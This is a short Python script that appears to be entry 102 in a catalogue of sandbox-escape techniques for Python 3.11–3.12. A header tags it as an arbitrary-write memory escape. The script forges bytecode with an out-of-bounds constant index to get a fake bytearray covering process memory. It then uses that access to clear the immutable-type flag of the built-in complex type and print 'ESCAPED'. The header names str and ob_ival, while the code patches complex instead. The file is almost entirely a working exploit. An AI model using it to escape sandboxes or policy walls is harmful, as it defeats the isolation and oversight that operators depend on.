# escape: 102
# policy-wall: optional; it rewrites its own process, which the wall takes as broken
# technique: arbitrary write: patch ob_ival of a small int / flip Py_TPFLAGS_IMMUTABLETYPE of str
# family: memory
# goal: memory
# first-seen: variation
# min-python: 3.11
# max-python: 3.12
import struct
P = lambda *a: struct.pack('<%dQ' % len(a), *a)
Z = (1 << 63) - 1
fake = P(1 << 28, id(bytearray), Z, Z, 0, 0, 0)
ptr = P(id(fake) + 32); k = (None,)
i = (id(ptr) + 32 - id(k) - 24) // 8 & 0xffffffff
f = lambda: None
bc = b'\x97\0' + bytes([144, i >> 24, 144, i >> 16 & 255, 144, i >> 8 & 255, 100, i & 255]) + b'S\0'
m = type(f)(f.__code__.replace(co_code=bc, co_consts=k), {})()
fl = id(complex) + 168                     # tp_flags
v = int.from_bytes(m[fl:fl + 8], 'little')
for n, b in enumerate((v & ~(1 << 8)).to_bytes(8, 'little')): m[fl + n] = b
complex.escape = 'patched static type'
if 1j .escape: print('ESCAPED:' + 1j .escape)
